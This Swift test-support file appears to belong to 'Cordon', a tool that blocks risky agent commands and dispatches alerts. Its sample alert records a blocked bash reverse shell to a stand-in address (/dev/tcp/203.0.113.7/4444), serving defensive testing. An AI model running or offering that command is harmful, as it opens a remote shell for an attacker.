import CordonAlerts
import CordonBase
import CordonPolicy
import CordonTestSupport
import Synchronization

#if canImport(Glibc)
    import Glibc
#endif

enum Fixture {
    static func alert(_ n: Int = 1, level: AlertLevel = .critical, summary: String = "cordon blocked a reverse shell")
        -> Alert
    {
        Alert(
            id: "al-\(n)-TEST", time: "2026-12-06T05:00:00.000Z", kind: .criticalBlock, level: level,
            summary: summary, agent: "ci-agent", project: "shop", run: "r-01TESTRUN", session: "s-1", score: 0.92,
            reasons: ["reverse shell: bash wired to /dev/tcp/203.0.113.7/4444"],
            lastDecisions: [
                AlertDecision(
                    action: "a-1", decision: "block", score: 92, level: "critical", rule: "reverse-shell",
                    command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
            ], tracePath: "/work/.cordon/traces/r-01TESTRUN.jsonl", logDirectoryOption: "/work/.cordon")
    }

    static func delivery(timeout: Double = 2, retries: Int = 0, drain: Double = 3, queue: Int = 16) -> AlertDelivery {
        var d = AlertDelivery()
        d.timeout = timeout
        d.retries = retries
        d.drain = drain
        d.queue = queue
        return d
    }

    /// A temporary directory, removed by the caller with `rm -rf`.
    static func directory() -> String {
        var template = Array("/tmp/cordon-alerts-XXXXXX".utf8CString)
        guard let p = mkdtemp(&template) else { return "/tmp" }
        return String(cString: p)
    }

    static func remove(_ dir: String) { _ = TestProcess.run(["/bin/rm", "-rf", dir]) }
}

/// Failures the dispatcher reported, collected across its threads.
final class Failures: Sendable {
    let list = Mutex<[AlertFailure]>([])
    var all: [AlertFailure] { list.withLock { $0 } }
    var report: @Sendable (AlertFailure) -> Void { { f in self.list.withLock { $0.append(f) } } }
}

/// Sends through a dispatcher with one channel and drains it: what failed.
func deliver(
    _ channel: AlertChannel, _ alerts: [Alert], delivery: AlertDelivery = Fixture.delivery(), cwd: String = "/"
)
    -> (failures: [AlertFailure], delivered: Int)
{
    let failures = Failures()
    let d = AlertDispatcher(channels: [channel], delivery: delivery, cwd: cwd, failed: failures.report)
    for a in alerts { d.send(a) }
    d.drain()
    return (failures.all, d.delivered)
}
